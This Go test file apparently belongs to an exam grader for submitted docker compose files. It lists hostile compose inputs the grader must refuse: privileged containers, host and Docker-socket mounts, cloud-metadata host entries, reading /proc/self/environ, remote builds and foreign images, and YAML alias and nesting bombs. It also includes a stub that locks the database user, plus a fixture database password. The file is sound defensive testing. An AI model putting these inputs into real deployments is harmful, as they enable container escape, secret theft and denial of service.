package hostile

import (
	"fmt"
	"os"
	"strings"
)

// Defences of what a compose file does beyond its own container.
var (
	trueLevels = off("brackets in quotes close nothing", "rubric/strict/deep.go",
		"\tdefault:\n\t\tn.indented(t, last)",
		"\tcase token.DoubleQuoteType:\n\t\tn.close(token.SequenceEndType)\n\tdefault:\n\t\tn.indented(t, last)")
	shortPaths = off("bounded path to a value of YAML", "rubric/strict/deep.go", "mostPath   = 1 << 10", "mostPath   = 1 << 30")
	noZone     = off("no zones in hosts entries", "grader/compose/names.go", `if address.Zone() != "" {`, "if false {")

	buildersOwn = &Defence{Name: "builders have names of their own", Off: []Edit{
		{buildFile, `return "Build" + m.suffix`, `return "build" + m.suffix`},
		{buildFile, `"-extra", buildTime`, `"-" + name, buildTime`},
	}}
	askedFirst = off("the lab is asked before a candidate's program runs", "grader/service.go",
		`	if err := x.reachable(ctx, s); err != nil {
		return nil, err
	}
	if err := x.startExtras(ctx, l, s); err != nil {
		return nil, err
	}
`, `	if err := x.startExtras(ctx, l, s); err != nil {
		return nil, err
	}
	if err := x.reachable(ctx, s); err != nil {
		return nil, err
	}
`)
)

// databaseURL is the address of the exam's database, which the kit tells.
const databaseURL = "postgres://paymentuser:paymentpass123@payment-db:5432/payments?sslmode=disable"

// composeCases are group C: what a compose file can ask for.
func composeCases() []Case {
	// into adds lines under the candidate's own service.
	into := func(lines ...string) func(*Tree) {
		return func(t *Tree) {
			text := strings.NewReplacer("$CANARY", t.Canary, "$DIR", t.Dir).Replace(strings.Join(lines, "\n    "))
			t.Replace(composeFile, "  payment-processor:\n    container_name:", "  payment-processor:\n    "+text+"\n    container_name:")
		}
	}
	env := func(lines ...string) func(*Tree) {
		return func(t *Tree) {
			t.Replace(composeFile, "      LOG_LEVEL: info\n", "      LOG_LEVEL: info\n      "+strings.Join(lines, "\n      ")+"\n")
		}
	}
	end := func(text string) func(*Tree) {
		return func(t *Tree) {
			t.Replace(composeFile, "\nnetworks:\n  default:\n    ipam", "\n"+text+"\nnetworks:\n  default:\n    ipam")
		}
	}
	refused := func(reason string) Want { return Want{Class: NotApplied, Reason: reason} }
	own := refused("only environment, extra_hosts and aliases")
	whole := func(text func() string) func(*Tree) {
		return func(t *Tree) { t.Write(composeFile, text()) }
	}
	return []Case{
		{ID: "C privileged", Threat: "asks for the machine: privileged, capabilities, devices, namespaces", Base: Kit,
			Make: into("privileged: true", "cap_add: [ALL, SYS_ADMIN]", "devices: [\"/dev/mem:/dev/mem\"]", "pid: host",
				"ipc: host", "userns_mode: host", "uts: host", "cgroup: host", "user: \"0:0\"", "sysctls: {kernel.core_pattern: x}"),
			Want: own, Defence: allowList},
		{ID: "C security-opt", Threat: "asks to be unconfined", Base: Kit,
			Make: func(t *Tree) {
				t.Replace(composeFile, "security_opt: [\"no-new-privileges:true\"]\n    mem_limit: 256m",
					"security_opt: [\"seccomp:unconfined\", \"apparmor:unconfined\"]\n    mem_limit: 900g\n    pids_limit: -1\n    oom_kill_disable: true")
			}, Want: own, Defence: allowList},
		{ID: "C host-mounts", Threat: "mounts the host and its Docker socket", Base: Kit,
			Make: into("volumes: [\"/:/host\", \"$CANARY:/canary:ro\", \"/var/run/docker.sock:/var/run/docker.sock\"]"),
			Want: own, Defence: allowList},
		{ID: "C host-network", Threat: "joins the host's network", Base: Kit,
			Make: into("network_mode: host"), Want: own, Defence: allowList},
		{ID: "C extra-hosts", Threat: "leads names to the host and to the cloud's metadata", Base: Kit,
			Make: into("extra_hosts: [\"metadata:169.254.169.254\", \"outside:192.0.2.1\"]"),
			Want: refused("no address that the file gives to a container of the lab"), Defence: hostTargets},
		{ID: "C host-gateway", Threat: "leads a name to the host's gateway", Base: Kit,
			Make: into("extra_hosts: [\"gateway:host-gateway\", \"host.docker.internal:127.0.0.1\"]"),
			Want: Want{Class: NotApplied, Reason: "no container of the lab"}, Defence: off("targets are addresses or containers",
				"grader/compose/names.go", `return "", fmt.Sprintf("%.80q is no container of the lab", value)`, `return value, ""`)},
		{ID: "C env-file", Threat: "reads variables from a secret file", Base: Kit,
			Make: into("env_file: [\"$CANARY\", /proc/self/environ]"), Want: own, Defence: allowList},
		{ID: "C host-variable", Threat: "reads a secret of the grader's environment", Base: Kit,
			Make: env("STOLEN: ${"+canaryVariable+"}", "ALSO: $"+canaryVariable),
			Want: refused("set neither in .env nor by a default"), Defence: noHostEnv},
		{ID: "C include", Threat: "includes and extends files of the host", Base: Kit,
			Make: func(t *Tree) {
				t.Replace(composeFile, "services:\n  payment-processor:\n", "include: [\""+t.Canary+"\"]\nservices:\n  payment-processor:\n"+
					"    extends: {file: \""+t.Canary+"\", service: x}\n")
			}, Want: refused("only changes of"), Defence: ownOnly},
		{ID: "C secrets", Threat: "takes a secret file as a secret", Base: Kit,
			Make: func(t *Tree) {
				end("secrets:\n  stolen:\n    file: " + t.Canary + "\nconfigs:\n  also:\n    file: " + t.Canary + "\n")(t)
				into("secrets: [stolen]", "configs: [also]")(t)
			}, Want: refused("only changes of"), Defence: ownOnly},
		{ID: "C remote-build", Threat: "builds a service from a repository elsewhere", Base: Kit,
			Make: end("  evil:\n    build: https://192.0.2.1/x.git\n"), Want: refused("holds no go.mod"), Defence: off("built from Go modules only", "grader/compose/services.go",
				`return dir + " holds no go.mod: only Go source is built"`, `return ""`)},
		{ID: "C build-upwards", Threat: "builds a service from a directory of the host", Base: Kit,
			Make: end("  evil:\n    build: ../..\n"), Want: refused("is no directory of the submission"), Defence: insideOnly},
		{ID: "C foreign-image", Threat: "runs an image from a registry", Base: Kit,
			Make: end("  evil:\n    image: example.com/evil:latest\n    privileged: true\n" +
				"    labels: {firedrill.run: \"*\"}\n    deploy: {replicas: 1000}\n"), Want: refused("only services built from Go source"), Defence: goSource},
		{ID: "C our-names", Threat: "takes the names of the database, the prober and the resolver", Base: Kit,
			Make: into("networks: {default: {aliases: [payment-db, traffic-generator, resolver, fraud-gateway]}}"),
			Want: refused("is a name of the platform"), Defence: ownNames},
		{ID: "C database", Threat: "moves the service to a database and a port of its own", Base: Kit,
			Make: func(t *Tree) {
				t.Replace(composeFile, "payment-db:5432/payments?sslmode=disable\n      FRAUD", "evil:5432/payments\n      FRAUD")
				t.Replace(composeFile, "PORT: \"8080\"", "PORT: \"9999\"")
			}, Want: refused("the platform fixes it"), Defence: fixedByLab},
		{ID: "C aliases-bomb", Threat: "a few lines of YAML that grow to billions", Base: Kit,
			Make: whole(func() string {
				var b strings.Builder
				b.WriteString("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n")
				for i := range 9 {
					fmt.Fprintf(&b, "a%d: &a%d [%s]\n", i+1, i+1, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*a%d, ", i), 9), ", "))
				}
				return b.String() + "services:\n  payment-processor:\n    environment: {A: *a9}\n"
			}), Want: refused("is not allowed here"), Defence: plainYAML},
		{ID: "C nesting-bomb", Threat: "30,000 nested lists", Base: Kit,
			Make: whole(func() string { return "services: " + strings.Repeat("[", 30_000) + strings.Repeat("]", 30_000) + "\n" }),
			Want: refused("nested too deeply"), Defence: shallowYAML},
		{ID: "C quoted-nesting", Threat: "10,000 nested lists that quoted brackets seem to close", Base: Kit,
			Make: whole(func() string { return "services:\n" + strings.Repeat("[\"]\",\n", 10_000) }),
			Want: refused("nested too deeply"), Defence: trueLevels},
		{ID: "C long-key", Threat: "a key of 30 KB over 16,000 values, the path to each of which is kept", Base: Kit,
			Make: whole(func() string { return strings.Repeat("k", 30_000) + ": [" + strings.Repeat("a,", 16_000) + "]\n" }),
			Want: refused("under too long keys"), Defence: shortPaths},
		{ID: "C zone", Threat: "a hosts entry that the engine refuses, and the container with it", Base: Kit,
			Make: into("extra_hosts: [\"zoned:::1%x\"]"), Want: refused("names a zone"), Defence: noZone},
		{ID: "C builders-name", Threat: "services that are called as the builder is, and too long for its host name", Base: Strong, Scope: FirstProbe,
			Make: func(t *Tree) {
				for _, name := range []string{"build", strings.Repeat("a", 60)} {
					end("  " + name + ":\n    build: ./stub\n")(t)
				}
				stub(t, "package main\n\nfunc main() { select {} }\n")
			}, Want: Want{Class: AsUsual}, Defence: buildersOwn},
		{ID: "C stub-first", Threat: "a stub that locks everyone out of the database before the lab is asked for it", Base: Strong, Scope: FirstProbe,
			Make: func(t *Tree) {
				end("  locker:\n    build: ./stub\n    expose: [\"9000\"]\n    environment: {DATABASE_URL: \"" + databaseURL + "\"}\n")(t)
				stub(t, locker)
			}, Want: Want{Class: AsUsual}, Defence: askedFirst},
		{ID: "C huge", Threat: "a compose file of a megabyte", Base: Kit,
			Make: func(t *Tree) { t.Append(composeFile, strings.Repeat("# padding\n", 100_000)) },
			Want: refused("larger than"), Defence: composeMax},
		{ID: "C duplicate-keys", Threat: "a key that stands twice, so that two readers see two files", Base: Kit,
			Make: env("LOG_LEVEL: debug"), Want: refused("stands twice"), Defence: onceEach},
	}
}

// stub writes the source of a further service, with the modules of the service.
func stub(t *Tree, main string) {
	t.Write("stub/main.go", main)
	for _, name := range []string{"go.mod", "go.sum"} {
		t.Do(func() error {
			data, err := os.ReadFile(t.Path("service/" + name))
			if err == nil {
				err = os.WriteFile(t.Path("stub/"+name), data, 0o644)
			}
			return err
		})
	}
}

// locker shuts the database to its only user, and listens when that is done.
const locker = `package main

import (
	"context"
	"net"
	"os"

	"github.com/jackc/pgx/v5"
)

func main() {
	ctx := context.Background()
	conn, err := pgx.Connect(ctx, os.Getenv("DATABASE_URL"))
	if err == nil {
		_, err = conn.Exec(ctx, "ALTER ROLE CURRENT_USER NOLOGIN")
	}
	if err != nil {
		panic(err)
	}
	_, _ = net.Listen("tcp", ":9000")
	select {}
}
`
